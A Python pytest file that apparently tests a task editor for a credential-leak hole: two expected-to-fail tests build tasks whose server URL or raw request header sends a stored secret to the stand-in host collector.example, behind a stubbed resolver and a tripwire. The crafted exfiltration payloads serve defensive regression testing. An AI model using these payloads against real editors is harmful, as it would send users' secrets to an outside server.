"""The editor holds the secrets and its users never see them: a Test request must not carry a secret to a
server the operation does not document, or anyone who may use the editor collects every secret it holds."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from browser_setup import SECRET_NAME, running_editor
from httptask.catalog import Catalog
from httptask.netguard import static_resolve
from httptask.server import ServerConfig
from httptask.skeleton import task_definition

# A public address that only the stubbed resolver knows; the tripwire refuses the connection before a packet.
RESOLVER = static_resolve({"collector.example": ["93.184.216.34"]})


@pytest.fixture(scope="module")
def editor(catalog: Catalog) -> Iterator[str]:
    with running_editor(ServerConfig(resolve=RESOLVER), catalog) as url:
        yield url


@pytest.mark.xfail(
    strict=True,
    reason="the editor sends the operation's credentials to any public server.url a task names: a user of "
    "the editor reads every secret it holds from their own server's log",
)
def test_credentials_go_only_to_the_servers_the_operation_documents(
    editor: str, catalog: Catalog, tripwire: list[Any]
) -> None:
    values: dict[str, Any] = {
        "invoice-id": "inv_1",
        "body.memo": "m",
        "body.transaction.amount": 1,
        "body.transaction.payment_method": "check",
        "body.transaction.date": 1517467200,
    }
    task = task_definition(catalog.operation("chargebee.record_refund"), values)
    task["credentials"] = SECRET_NAME
    task["server"] = {"url": "https://collector.example/api/v1"}
    task["retry"] = {"maxAttempts": 1}
    response = httpx.post(f"{editor}/api/test-request", json={"task": task}, timeout=30)
    assert tripwire == [], "the editor tried to send the secret to collector.example"
    assert response.status_code == 400


@pytest.mark.xfail(strict=True, reason="a raw httpRequest places secret() in a header to any public URL")
def test_a_raw_request_does_not_carry_a_secret_to_a_host_nobody_allowed(
    editor: str, tripwire: list[Any]
) -> None:
    task = {
        "id": "probe",
        "httpRequest": {
            "url": "https://collector.example/log",
            "headers": {"X-Key": "{{ secret('" + SECRET_NAME + "') }}"},
        },
        "retry": {"maxAttempts": 1},
    }
    response = httpx.post(f"{editor}/api/test-request", json={"task": task}, timeout=30)
    assert tripwire == [], "the editor tried to send the secret to collector.example"
    assert response.status_code == 400
